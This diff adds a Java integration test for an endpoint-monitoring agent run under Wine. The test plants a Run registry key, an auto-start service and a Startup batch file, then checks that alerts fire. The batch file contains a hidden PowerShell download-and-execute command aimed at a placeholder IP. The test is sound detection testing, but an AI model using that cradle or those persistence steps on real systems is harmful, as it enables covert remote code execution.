@@ -1,0 +1,111 @@
+package bzh.vigie.installers;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.SortedSet;
+import java.util.TreeSet;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The whole line with a Windows at one end, as Wine plays it, and a collector on this Linux at the other: real certificates, what
+ * plain programs do there, and the alerts.
+ */
+final class WindowsLineTest {
+    private static final String STATE = "C:\\vigie";
+    private static final Duration PATIENCE = Duration.ofMinutes(4);
+
+    @TempDir
+    Path folder;
+
+    @Test
+    void whatIsPlantedOnARunningWindowsRaisesItsAlert() throws IOException, InterruptedException {
+        Wine windows = Wine.fresh(folder);
+        Path status = windows.prefix().resolve("drive_c/vigie/status.jsonl");
+        try (Collector collector = Collector.start(folder.resolve("collector"))) {
+            windows.agent("enrol", "--state", STATE, "--lang", "en", "--token", collector.token())
+                    .orFail("agent enrol");
+            try (Program agent = windows.startAgent("run", "--state", STATE, "--lang", "en")) {
+                assertTrue(agent.until(() -> isComplete(status), PATIENCE), agent::said);
+                assertTrue(collector.lines("hosts", "list").contains("\"os\\\":\\\"windows"), "hosts list");
+                assertEquals(List.of(), alerts(collector), "before anything is planted");
+                plant(windows);
+                try (Program _ = windows.start("wine", "cmd", "/c", "ping -n 30 127.0.0.1")) {
+                    assertTrue(told(agent, collector, "Image=C:\\windows\\system32\\ping.exe"), agent::said);
+                }
+                assertTrue(told(agent, collector, "DestinationPort=" + collector.port()), agent::said);
+                List<String> wanted = List.of("Planted", "PlantedService", "planted.bat");
+                boolean all = agent.until(() -> named(collector, wanted).size() == wanted.size(), PATIENCE);
+                assertTrue(all, () -> "alerts name only " + said(collector, wanted) + "\n" + agent.said());
+            }
+        }
+    }
+
+    private static void plant(Wine windows) throws IOException, InterruptedException {
+        windows.run(
+                        "wine",
+                        "reg",
+                        "add",
+                        "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                        "/v",
+                        "Planted",
+                        "/d",
+                        "C:\\Users\\Public\\planted.exe")
+                .orFail("reg add");
+        windows.run(
+                        "wine",
+                        "sc",
+                        "create",
+                        "PlantedService",
+                        "binPath=",
+                        "C:\\Users\\Public\\service.exe",
+                        "start=",
+                        "auto")
+                .orFail("sc create");
+        Files.writeString(
+                windows.prefix()
+                        .resolve("drive_c/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/planted.bat"),
+                "powershell -nop -w hidden -c \"iex (iwr http://198.51.100.7/a)\"\r\n");
+    }
+
+    /** Whether the history has an event with that field, now or soon. */
+    private static boolean told(Program agent, Collector collector, String field)
+            throws IOException, InterruptedException {
+        return agent.until(() -> collector.lines("events", "--field", field).contains("\"kind\":\"event\""), PATIENCE);
+    }
+
+    private static boolean isComplete(Path status) throws IOException {
+        return Files.exists(status) && Files.readString(status).contains("\"inventory\":\"complete\"");
+    }
+
+    private static List<String> alerts(Collector collector) throws IOException, InterruptedException {
+        return collector
+                .lines("alerts", "list")
+                .lines()
+                .filter(line -> line.startsWith("{"))
+                .toList();
+    }
+
+    private static SortedSet<String> named(Collector collector, List<String> wanted)
+            throws IOException, InterruptedException {
+        String alerts = String.join("\n", alerts(collector));
+        return wanted.stream()
+                .filter(each -> alerts.contains("\"" + each + "\"") || alerts.contains("\\" + each))
+                .collect(Collectors.toCollection(TreeSet::new));
+    }
+
+    private static String said(Collector collector, List<String> wanted) {
+        try {
+            return named(collector, wanted) + " in\n" + String.join("\n", alerts(collector));
+        } catch (IOException | InterruptedException e) {
+            return e.toString();
+        }
+    }
+}
